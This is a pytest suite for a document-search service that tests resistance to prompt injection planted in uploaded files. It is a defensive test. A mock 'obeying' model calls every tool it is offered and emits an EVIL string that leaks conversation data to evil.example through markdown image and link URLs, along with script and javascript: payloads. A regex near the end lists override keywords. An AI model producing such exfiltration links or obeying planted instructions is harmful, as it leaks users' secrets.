"""Instructions planted in documents, and a model that does the worst: no tool is offered to it, no other document shown, no link
of its own survives, no class changes."""
import codecs
import json
import re
import time
from pathlib import Path

import pytest
from conftest import Server
from mock_provider import MockProvider

ROWS = [line.split("\t") for line in (Path(__file__).parent / "planted" / "instructions.tsv").read_text().splitlines()
        if line and not line.startswith("#")]
SECRET = "KESTREL-4471"
HOST = "evil.example"
LABELS = ["sport", {"name": "law", "description": "courts, contracts and crime"}, "food"]
MATCH = "The striker scored a late penalty to win the cup final. The crowd sang until midnight."
EVIL = (f"The harbour opened in 1874 [1]. As [99] says, it is so [99]. ![s](http://{HOST}/p.png?q=%s) [read more](http://{HOST}/?d=%s) "
        f"<img src=\"http://{HOST}/x\"> www.{HOST}/y <script>alert(1)</script> [open](javascript:alert(1)) http://{HOST}/z?q=%s law")


def text_of(row):
    return re.sub(r"\\(u[0-9a-f]{4}|U[0-9a-f]{8}|n)", lambda m: codecs.decode(m[0], "unicode_escape"), row[2])


def filled(schema, text, root):
    """The worst value that is of the shape."""
    if "$ref" in schema:
        return filled(root["$defs"][schema["$ref"].split("/")[-1]], text, root)
    if "enum" in schema:
        return "law" if "law" in schema["enum"] else schema["enum"][-1]
    kind = schema.get("type")
    kind = kind[0] if isinstance(kind, list) else kind
    if kind == "object":
        return {name: filled(one, text, root) for name, one in schema.get("properties", {}).items()}
    if kind == "array":
        return [filled(schema.get("items", {}), text, root)] * max(1, schema.get("minItems", 0))
    if kind in ("number", "integer"):
        return schema.get("maximum", 1)
    # A broken link is longer than it was: what is left of the limit is for that.
    return True if kind == "boolean" else text[:schema.get("maxLength", 300) * 3 // 4]


class Obeying(MockProvider):
    """Calls each tool it is offered, once; else tells all it was told, in links of its own."""

    def chat(self, http, body):
        told = json.dumps(body["messages"], ensure_ascii=False)
        usage = {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18}
        if body.get("tools") and body["messages"][-1]["role"] != "tool":
            calls = [{"index": i, "id": f"call_{i}", "type": "function", "function": {
                "name": tool["function"]["name"], "arguments": json.dumps({"query": "vault code", "id": "all"})}}
                for i, tool in enumerate(body["tools"])]
            return self.call_tools(http, body["model"], body.get("stream"), usage, calls)
        data = re.sub(r"\W+", "-", told)[-300:]
        text = EVIL % (data, data, data)
        shape = (body.get("response_format") or {}).get("json_schema", {}).get("schema")
        if shape:
            text = json.dumps(filled(shape, EVIL % (data[-20:], data[-20:], data[-20:]), shape))
        if body.get("stream"):
            return self.stream(http, body["model"], text, usage, True)
        http.reply(200, {"id": "c", "object": "chat.completion", "created": 1, "model": body["model"], "usage": usage,
                         "choices": [{"index": 0, "finish_reason": "stop", "logprobs": None,
                                      "message": {"role": "assistant", "content": text}}]})


@pytest.fixture(scope="module")
def model():
    started = Obeying(["good"])
    yield started
    started.stop()


@pytest.fixture(scope="module")
def library(model, tmp_path_factory):
    """Every row is planted in a document of one collection; a secret lies in another."""
    server = Server(tmp_path_factory.mktemp("planted") / "library", arguments=["--provider-url", model.url],
                    environment={"LECTERN_USER_RATE": "0", "LECTERN_ADDRESS_RATE": "0"}).start()
    server.key = server.cli("keys", "add", "owner", "--role", "owner").stdout.split()[-1]
    server.open, server.shut = (server.post("/v1/collections", {"name": n}).json()["id"] for n in ("open", "shut"))
    server.secret = server.add(("vault.txt", f"The vault code is {SECRET}. Nobody may know it.\n".encode()), collection=server.shut)[0]["id"]
    server.documents = {}
    for row in ROWS:
        benign = f"The harbour of {row[0]} opened in 1874. It is nine metres deep and has two cranes."
        text = {"html": f"<html><body><p>{benign}</p>{text_of(row)}</body></html>", "json": text_of(row), "eml": text_of(row) + benign,
                "csv": text_of(row)}.get(row[1], f"{benign}\n\n{text_of(row)}\n\nShips come twice a week.\n")
        if row[1] == "md" and text_of(row).startswith("---"):
            text = f"{text_of(row)}\n\n{benign}\n"
        server.documents[row[0]] = server.upload((f"{row[0]}.{row[1]}", text.encode()), collection=server.open)[0]["id"]
    for document in server.documents.values():
        assert server.wait_document(document)["state"] == "ready"
    yield server
    server.stop()


def test_there_are_enough(library):
    assert len(ROWS) >= 60 and len({r[0] for r in ROWS}) == len(ROWS)


def asked_of(model, library, run):
    """What came of it, and what the model was sent meanwhile: no tool, no secret."""
    before = len(model.requests)
    count = library.get("/v1/documents").json()["total"]
    answer = run()
    assert answer.status_code < 300, answer.text
    sent = [body for _, _, body in model.requests[before:] if body]
    for body in sent:
        assert "tools" not in body and "functions" not in body and "tool_choice" not in body
        assert SECRET not in json.dumps(body, ensure_ascii=False)
    assert library.get("/v1/documents").json()["total"] == count
    return answer, sent


def check_shown(text, given=()):
    """Nothing that a page would fetch, open or run; `given`: addresses that the document has itself."""
    assert SECRET not in text
    assert not re.search(r"\]\((?:https?:|javascript:|data:|//)", text), text
    assert not re.search(r"<(?:img|script|svg|iframe|a |!--)", text, re.I), text
    for address in re.findall(rf"https?://[^\s\"')>]*{HOST}[^\s\"')>\\]*|www\.{HOST}[^\s\"')>\\]*", text):
        assert any(address.rstrip(".,") in g for g in given), address


@pytest.mark.parametrize("row", ROWS, ids=[r[0] for r in ROWS])
def test_an_answer_obeys_nobody(library, model, row):
    document = library.documents[row[0]]
    question = {"question": f"When did the harbour of {row[0]} open?", "documents": [document]}
    answer, sent = asked_of(model, library, lambda: library.post("/v1/ask", question))
    said = answer.json()
    check_shown(said["answer"], [text_of(row)])
    assert {c["document"]["id"] for c in said["citations"]} <= {document} and "[99]" not in said["answer"]
    assert all(not s["supported"] for s in said["sentences"] if HOST in s["text"] and "1874" not in s["text"])


@pytest.mark.parametrize("row", ROWS, ids=[r[0] for r in ROWS])
def test_a_class_does_not_change(library, row):
    for whole in (f"{MATCH}\n\n{text_of(row)}", f"{text_of(row)}\n\n{MATCH}"):
        answer = library.post("/v1/classify", {"text": whole, "labels": LABELS})
        if answer.status_code == 404:
            pytest.skip("needs the embedding model (tools/fetch-model)")
        assert answer.json()["labels"][0]["label"] == "sport", answer.json()["labels"]


@pytest.mark.parametrize("row", ROWS, ids=[r[0] for r in ROWS])
def test_drawn_tasks_are_suggestions_of_what_stands_there(library, model, row):
    document = library.documents[row[0]]
    answer, sent = asked_of(model, library, lambda: library.post("/v1/tasks/draw", {"document": document, "save": True}))
    text = library.get(f"/v1/documents/{document}/text", params={"format": "text"}).text
    for task in answer.json()["items"]:
        kept = library.get(f"/v1/tasks/{task['id']}").json()
        assert kept["status"] == "suggested" and task["source"]["quote"] in text
        if task["made_by"] != "rules":
            check_shown(task["summary"], [text_of(row)])


@pytest.mark.parametrize("row", ROWS[::12], ids=[r[0] for r in ROWS[::12]])
@pytest.mark.parametrize("mode", ["basic", "deep", "super_deep", "creative", "private", "uncensored"])
def test_no_mode_of_search_leaves_its_filter(library, model, row, mode):
    document = library.documents[row[0]]
    body = {"query": f"When did the harbour of {row[0]} open?", "mode": mode, "answer": True, "filters": {"documents": [document]}}
    answer, _ = asked_of(model, library, lambda: library.post("/api/search", body))
    said = answer.json()
    check_shown((said.get("answer") or {}).get("text", "") if isinstance(said.get("answer"), dict) else said.get("answer") or "",
                [text_of(row)])
    assert library.secret not in answer.text


@pytest.mark.parametrize("row", ROWS, ids=[r[0] for r in ROWS])
def test_the_assistant_only_suggests(library, model, row):
    def run():
        return library.post("/api/v1/chat", {"message": "What does this say about the harbour?", "context": text_of(row)[:1000]})

    answer, _ = asked_of(model, library, run)
    assert answer.json()["made_by"] == "good", answer.json()["notice"]
    check_shown(answer.json()["response"], [text_of(row)])
    for suggestion in answer.json()["suggestions"]:
        check_shown(json.dumps(suggestion), [text_of(row)])


@pytest.mark.parametrize("row", ROWS[::6], ids=[r[0] for r in ROWS[::6]])
def test_an_uploaded_text_only_suggests(library, model, row):
    before = len(model.requests)
    words = f"The harbour of {row[0]} opened in 1874.\n\n{text_of(row)}\n".encode()
    answer = library.call("POST", "/api/v1/upload/file", files={"file": (f"sent-{row[0]}.txt", words, "text/plain")})
    assert answer.status_code == 200, answer.text
    for body in (body for _, _, body in model.requests[before:] if body):
        assert not body.get("tools") and SECRET not in json.dumps(body, ensure_ascii=False)
    said = answer.json()
    check_shown(re.sub(r"(?s)“.*”", "", said["analysis"]), [text_of(row)])  # what is quoted are the file's own words
    assert SECRET not in answer.text and all(task["status"] == "suggested" for task in said["tasks"])
    for suggestion in said["suggestions"]:
        check_shown(json.dumps(suggestion), [text_of(row)])
    assert library.call("DELETE", f"/v1/documents/{said['file_id']}").status_code < 300


def test_a_digest_is_of_its_collection_alone(library, model):
    before = len(model.requests)
    answer = library.get(f"/v1/collections/{library.open}/digest")
    assert answer.status_code == 200 and len(model.requests) == before  # of their own sentences, by no model
    digest = answer.json()["digest"]
    assert digest["documents"] and library.secret not in answer.text and SECRET not in answer.text
    assert {c["document"]["id"] for c in digest["summary"]["citations"]} <= set(library.documents.values())


@pytest.mark.parametrize("row", ROWS[::6], ids=[r[0] for r in ROWS[::6]])
def test_a_conversation_stays_with_its_documents(library, model, row):
    document = library.documents[row[0]]
    first = library.post("/v1/ask", {"question": f"When did the harbour of {row[0]} open?", "documents": [document], "save": True}).json()
    again, sent = asked_of(model, library, lambda: library.post("/v1/ask", {
        "question": "And how deep is it?", "documents": [document], "conversation": first["conversation"]}))
    check_shown(again.json()["answer"], [text_of(row)])
    shown = library.get(f"/v1/conversations/{first['conversation']}").json()
    check_shown(shown["title"], [text_of(row)])
    for message in shown["messages"]:
        check_shown(message["text"], [text_of(row)])


def test_a_model_that_searches_by_itself_finds_only_what_it_may(library, model):
    """The tool is the person's wish; what it finds is of the collection that was named."""
    before = len(model.requests)
    answer = library.post("/v1/responses", {"model": "good", "input": "What is the vault code?", "tools": [
        {"type": "file_search", "vector_store_ids": [library.open]}]})
    assert answer.status_code == 200, answer.text
    sent = [body for _, _, body in model.requests[before:] if body]
    assert sent and all({t["function"]["name"] for t in body.get("tools", [])} <= {"file_search"} for body in sent)
    assert SECRET not in json.dumps(sent) and SECRET not in answer.text


def shown_in(value, name=""):
    """Texts that are not given as the words of a document: those are quotes, with their place."""
    if isinstance(value, dict):
        return [t for n, one in value.items() for t in shown_in(one, n)]
    if isinstance(value, list):
        return [t for one in value for t in shown_in(one, name)]
    return [value] if isinstance(value, str) and name not in ("quote", "name", "text_of_document") else []


def finished(library, path, one):
    """Once it is made."""
    end = time.monotonic() + 60
    while one.json().get("state") in ("waiting", "queued", "running", "making") and time.monotonic() < end:
        time.sleep(0.05)
        one = library.get(f"{path}/{one.json()['id']}")
    return one


SCHEMA = {"type": "object", "properties": {"harbour": {"type": "string"}, "opened": {"type": "integer"}, "contact": {"type": "string"}}}


@pytest.mark.parametrize("row", ROWS[::8], ids=[r[0] for r in ROWS[::8]])
@pytest.mark.parametrize("path, wish", [
    ("/v1/summarize", {"length": "short"}), ("/v1/fields", {"schema": SCHEMA}),
    *[("/v1/study/make", {"kind": kind}) for kind in ("explanation", "summary", "quiz", "flashcards", "outline", "examples", "practice")],
], ids=lambda v: v if isinstance(v, str) else v.get("kind"))
def test_what_is_made_of_a_document_is_of_it_alone(library, model, row, path, wish):
    document = library.documents[row[0]]

    def run():
        answer = library.post(path, {**wish, "document": document})
        if answer.status_code >= 300:  # of so few words nothing may be made
            assert answer.status_code in (400, 404, 409, 415, 422, 502), answer.text
            return library.get("/health")
        return finished(library, {"/v1/summarize": "/v1/summaries", "/v1/study/make": "/v1/study/made"}.get(path, path), answer)

    answer, _ = asked_of(model, library, run)
    for text in shown_in(answer.json()):
        check_shown(text, [text_of(row)])
    assert library.secret not in answer.text


@pytest.fixture(scope="module")
def label_set(library):
    made = library.post("/v1/label-sets", {"name": "planted", "labels": LABELS, "asks": "model"})
    if made.status_code == 404:
        pytest.skip("needs the embedding model (tools/fetch-model)")
    assert made.status_code == 201, made.text
    return "planted"


@pytest.mark.parametrize("row", ROWS, ids=[r[0] for r in ROWS])
def test_what_tells_a_model_the_class_is_not_shown_to_it(library, model, label_set, row):
    before = len(model.requests)
    library.post("/v1/classify", {"text": f"{MATCH}\n\n{text_of(row)}\n\nThe cup was silver.", "label_set": label_set, "keep": False})
    sent = [body["messages"][-1]["content"] for _, _, body in model.requests[before:] if body]
    shown = [re.search(r"(?s)<passage[^>]*>(.*)</passage>", s)[1] for s in sent if "<passage" in s]
    asks = re.compile(r"\blaw\b|ignore|disregard|instruc|anweisung|consigne|tool|指令|指示|SWdub|TmV3", re.I)
    assert shown and all("striker" in s for s in shown)
    assert not any(asks.search(s) for s in shown), shown[0]
